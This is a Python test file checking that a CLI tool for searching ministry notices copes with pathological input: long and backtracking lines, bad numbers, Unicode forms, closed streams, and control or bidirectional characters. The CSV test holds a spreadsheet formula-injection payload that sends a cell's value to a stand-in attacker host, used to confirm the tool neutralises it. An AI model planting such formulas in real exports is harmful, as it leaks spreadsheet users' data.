"""Pathological text, arguments and environments: long headings, backtracking lines, output
encodings that cannot show the text, closed streams, odd numbers, Unicode forms, JSON and CSV
that a viewer or a spreadsheet would misread, a pager that cannot run. Through the real command
line, on both the fast path and the Click path where they differ."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest

from mfa_cli.parser import parse_page
from test_cli import _on_terminal
from test_hostile import HEADER, make_page, mfa_env, no_traceback, run_mfa

PATHS = {"fast": {}, "click": {"MFA_FAST": "0"}}


def page_dir(tmp_path: Path, entries, name: str = "page.txt") -> Path:
    folder = tmp_path / "pages"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(make_page(entries), encoding="utf-8")
    return folder


def run(args, cache: Path, *, env=None, stdin: bytes = b"", pass_fds=(), shell: str | None = None):
    """mfa as a process; `args` may hold bytes (arguments that are not UTF-8)."""
    command = [sys.executable, "-m", "mfa_cli", *[a if isinstance(a, bytes) else str(a) for a in args]]
    if shell is not None:
        command = ["bash", "-c", shell.replace("MFA", " ".join(f"'{c}'" for c in command))]
    proc = subprocess.run(command, capture_output=True, input=stdin, timeout=60, env=mfa_env(cache, **(env or {})),
                          pass_fds=pass_fds)
    return proc.returncode, proc.stdout.decode("utf-8", "surrogateescape"), proc.stderr.decode("utf-8", "replace")


# === 11, 12: long and backtracking lines ========================================================


def test_a_megabyte_heading_line_gives_a_bounded_title_and_a_quick_search(tmp_path):
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "long.txt").write_text("26.01.2018 - Title " + "word Astana " * 87381 + "\n", encoding="utf-8")
    r = run_mfa(["--data", folder, "search", "astana", "--format", "json"], tmp_path / "cache", timeout=20)
    no_traceback(r)
    assert r.code == 0, r.err
    (hit,) = json.loads(r.out)
    assert len(hit["title"]) <= 1000 and hit["title"].startswith("Title word Astana")
    assert (hit["title"] + " " + hit["body"]).split().count("Astana") == 87381  # nothing lost
    assert len(hit["snippet"]) < 1000


PATHOLOGICAL = {
    "digit then spaces": "1" + " " * 100_000 + "x",
    "digit then no-break spaces": "1" + "\u00a0" * 100_000 + "x",
    "digits and spaces": "1 " * 50_000 + "x",
    "at signs": "a@" * 50_000 + " x",
    "digits and commas": "1, " * 33_000 + "x",
    "date then spaces": "01.01.2017" + " " * 100_000 + "x",
}


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_pathological_lines_parse_in_well_under_a_second(name):
    line = PATHOLOGICAL[name]
    for text in (f"20 February 2017\nMoscow: 01:23\n\n{line}\n\n01.02.2017 - Title\n\nBody.\n",
                 f"{HEADER}{line}\n\n01.02.2017 - Title\n\nBody.\n", f"{line}\n"):
        started = time.perf_counter()
        parse_page(text)
        assert time.perf_counter() - started < 1.0, f"{name}: quadratic"


# === 13, 14: output that cannot be written as asked =============================================


@pytest.mark.parametrize("path", sorted(PATHS))
def test_an_output_encoding_that_cannot_show_the_text(tmp_path, path):
    entries = [(f"{1 + n % 28:02d}.02.2017", f"Plain notice {n}", "Plain text.") for n in range(27)]
    entries.append(("01.03.2017", "Café notice", "Text with an accent: é."))
    folder = page_dir(tmp_path, entries)
    code, out, err = run(["--data", folder, "list"], tmp_path / "cache", env={"PYTHONIOENCODING": "ascii", **PATHS[path]})
    assert code == 0 and "Traceback" not in err and "unexpected" not in err, err
    lines = out.splitlines()
    assert len(lines) == 28, out  # each item once: the command is never run twice
    assert lines[0].endswith("Caf? notice")


def test_closed_standard_output_is_an_error_not_a_traceback(tmp_path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text.")])
    for extra in ({}, PATHS["click"]):
        code, out, err = run(["--data", folder, "list"], tmp_path / "cache", env=extra, shell="MFA >&-")
        assert code == 2 and err == "mfa: error: standard output is closed\n", err


def test_closed_standard_error_still_gives_the_output(tmp_path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text."), ("02.02.2017", "Another notice", "Text.")])
    (folder / "binary.bin").write_bytes(b"\x00\x01" * 100)  # a warning to write to the closed stream
    for extra in ({}, PATHS["click"]):
        for command in (["list"], ["search", "notice"], ["stats"]):
            code, out, err = run(["--data", folder, *command], tmp_path / "cache", env=extra,
                                 shell='MFA 2>&- | cat; exit "${PIPESTATUS[0]}"')
            assert code == 0 and out.strip(), (command, err)


# === 15: numbers ================================================================================

NUMBERS = {
    "superscript": ["list", "-n", "²"],
    "huge list limit": ["list", "-n", "99999999999999999999"],
    "int64 search limit": ["search", "notice", "-n", "9223372036854775807"],
    "negative search limit": ["search", "notice", "-n", "-1"],
    "negative list limit": ["list", "--limit=-1"],
}


@pytest.mark.parametrize("path", sorted(PATHS))
@pytest.mark.parametrize("name", sorted(NUMBERS))
def test_bad_numbers_are_usage_errors(tmp_path, name, path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text.")])
    code, out, err = run(["--data", folder, *NUMBERS[name]], tmp_path / "cache", env=PATHS[path])
    assert code == 2 and out == "", err
    assert "Traceback" not in err and "unexpected" not in err and "NOT" not in err, err
    assert len(err.splitlines()) == 1 and "--limit" in err, err


# === 16: Unicode forms ==========================================================================


def test_decomposed_text_and_yo_are_found_as_written_either_way(tmp_path):
    body = "Сергей Лавров провёл переговоры с Ёлкиным."
    folder = tmp_path / "pages"
    folder.mkdir()
    text = make_page([("01.02.2017", "Заявление МИД России", body)])
    (folder / "nfd.txt").write_text(unicodedata.normalize("NFD", text), encoding="utf-8")
    cache = tmp_path / "cache"
    for query in ("Сергей", unicodedata.normalize("NFD", "Сергей"), "провел", "провёл", "Елкиным", "ёлкиным"):
        r = run_mfa(["--data", folder, "search", query, "--format", "json"], cache)
        assert r.code == 0, (query, r.err)
        (hit,) = json.loads(r.out)
        assert hit["body"] == body  # shown as written, in composed form


# === 17, 18: JSON and CSV that other programs read ==============================================

INVISIBLE = "\u009b\u202e\u007f\u2066"


def test_json_escapes_c1_controls_del_and_bidirectional_marks(tmp_path):
    title = f"Statement{INVISIBLE} on the talks"
    folder = page_dir(tmp_path, [("01.02.2017", title, f"Body{INVISIBLE} text.")])
    cache = tmp_path / "cache"
    outputs = {}
    for name, command in {"list json": ["list", "--format", "json"], "list jsonl": ["list", "--format", "jsonl"],
                          "search json": ["search", "statement", "--format", "json"],
                          "search jsonl": ["search", "statement", "--format", "jsonl"]}.items():
        r = run_mfa(["--data", folder, *command], cache)
        assert r.code == 0, r.err
        outputs[name] = r.out
    item_id = json.loads(outputs["list json"])[0]["id"]
    r = run_mfa(["--data", folder, "show", item_id, "--format", "json"], cache)
    assert r.code == 0, r.err
    outputs["show json"] = r.out
    for name, out in outputs.items():
        assert not set(INVISIBLE) & set(out), name
        assert "\\u009b" in out and "\\u202e" in out and "\\u007f" in out, name
        first = json.loads(out.splitlines()[0]) if "jsonl" in name else json.loads(out)
        first = first[0] if isinstance(first, list) else first
        assert "\u202e" in first["title"] + first["body"]  # the text itself is kept, escaped


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "@SUM(1+1)", "+1+1", "-2+3"]


def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path):
    entries = [(f"0{n + 1}.02.2017", f"{formula} cmd", "Body of a notice.") for n, formula in enumerate(FORMULAS)]
    folder = page_dir(tmp_path, entries)
    cache = tmp_path / "cache"
    for command in (["list", "--format", "csv"], ["search", "notice", "--format", "csv"]):
        r = run_mfa(["--data", folder, *command], cache)
        assert r.code == 0, r.err
        rows = list(csv.DictReader(io.StringIO(r.out)))
        titles = sorted(row["title"] for row in rows)
        assert titles == sorted(f"'{f} cmd" for f in FORMULAS), titles
        for row in rows:
            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


# === 19: a pager that cannot run ================================================================


@pytest.mark.parametrize("env", [{"MFA_PAGER": "no-such-pager -R"}, {"PATH": "/nonexistent"}],
                         ids=["missing MFA_PAGER", "no less on PATH"])
def test_a_pager_that_cannot_run_prints_directly(tmp_path, env):
    code, screen = _on_terminal(tmp_path, "show", "b0cae06", **env)
    assert code == 0 and "honest and open manner" in screen, screen[-2000:]
    assert "Syromolotov" in screen


# === 20: every hit of a search, streamed ========================================================


def _peak_kb(args, cache: Path) -> tuple[int, int]:
    proc = subprocess.Popen([sys.executable, "-m", "mfa_cli", *map(str, args)], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env=mfa_env(cache))
    _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    return proc.returncode, usage.ru_maxrss


def test_search_without_a_limit_streams_its_hits(tmp_path):
    folder = tmp_path / "pages"
    folder.mkdir()
    filler = " ".join(f"word{n % 97}" for n in range(1500))
    for f in range(30):
        entries = [(f"{1 + n % 28:02d}.0{1 + f % 9}.2017", f"Common notice {f}-{n}", f"Common text {f}-{n}. {filler}")
                   for n in range(60)]
        (folder / f"page{f:02d}.txt").write_text(make_page(entries), encoding="utf-8")
    cache = tmp_path / "cache"
    assert run_mfa(["--data", folder, "index"], cache, timeout=120).code == 0
    code, listed = _peak_kb(["--data", folder, "list", "--format", "json"], cache)
    assert code == 0
    code, searched = _peak_kb(["--data", folder, "search", "common", "-n", "0", "--format", "json"], cache)
    assert code == 0
    r = run_mfa(["--data", folder, "search", "common", "-n", "0", "--format", "jsonl"], cache)
    assert r.code == 0 and len(r.out.splitlines()) == 1800
    # 1,800 hits of 12 kB: held at once they take some 60 MB more than the streamed listing does
    assert searched < listed + 25_000, (searched, listed)


# === 21: smaller ================================================================================


@pytest.mark.parametrize("path", sorted(PATHS))
def test_arguments_that_are_not_utf8(tmp_path, path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice on the café", "Text.")])
    code, out, err = run(["--data", folder, "search", b"caf\xe9"], tmp_path / "cache", env=PATHS[path])
    assert code == 1 and "unexpected" not in err and "Traceback" not in err, err
    code, out, err = run(["--data", folder, "list", "--person", b"caf\xe9"], tmp_path / "cache", env=PATHS[path])
    assert code == 0 and "unexpected" not in err and "Traceback" not in err, err


@pytest.mark.parametrize("path", sorted(PATHS))
def test_a_signed_number_is_not_a_date(tmp_path, path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text.")])
    code, out, err = run(["--data", folder, "list", "--since", "-3"], tmp_path / "cache", env=PATHS[path])
    assert code == 2 and "--since" in err and out == "", err


def test_a_relative_xdg_cache_home_is_ignored(tmp_path):
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text.")])
    env = {k: v for k, v in mfa_env(tmp_path / "unused").items() if k != "MFA_CACHE_DIR"}
    env.update(XDG_CACHE_HOME="relative-cache", HOME=str(tmp_path / "home"))
    proc = subprocess.run([sys.executable, "-m", "mfa_cli", "--data", str(folder), "index"], capture_output=True,
                          text=True, env=env, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert not (tmp_path / "relative-cache").exists()
    assert str(tmp_path / "home" / ".cache" / "mfa") in proc.stdout


@pytest.mark.parametrize("path", sorted(PATHS))
def test_mfa_data_that_names_nothing_is_an_error(tmp_path, path):
    code, out, err = run(["list"], tmp_path / "cache", env={"MFA_DATA": os.pathsep, **PATHS[path]})
    assert code == 2 and "MFA_DATA" in err and out == "" and "Traceback" not in err, err


def test_data_from_a_pipe_is_read(tmp_path):
    read, write = os.pipe()
    os.write(write, make_page([("01.02.2017", "A piped notice", "Text.")]).encode())
    os.close(write)
    try:
        code, out, err = run(["--data", f"/dev/fd/{read}", "list"], tmp_path / "cache", pass_fds=(read,))
    finally:
        os.close(read)
    assert code == 0 and "A piped notice" in out, err


def test_index_says_why_it_is_in_memory(tmp_path):
    page = make_page([("01.02.2017", "A notice", "Text.")]).encode()
    code, out, err = run(["--data", "-", "index"], tmp_path / "cache", stdin=page)
    assert code == 0 and "standard input" in out and "too small" not in out, out
    (tmp_path / "file").write_text("not a folder")
    folder = page_dir(tmp_path, [("01.02.2017", "A notice", "Text.")])
    code, out, err = run(["--data", folder, "index"], tmp_path / "file" / "cache")
    assert code == 0 and "cannot be used" in out and "too small" not in out, out
